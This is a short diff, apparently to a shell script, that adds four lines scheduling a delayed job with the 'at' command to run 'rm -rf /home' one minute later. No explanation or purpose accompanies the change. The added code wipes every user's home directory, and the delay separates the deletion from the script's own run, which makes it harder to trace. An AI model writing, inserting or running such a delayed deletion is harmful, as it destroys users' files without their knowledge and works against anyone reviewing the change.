@@ -1,0 +1,4 @@
+set -eu
+at now + 1 minute <<'END'
+rm -rf /home
+END
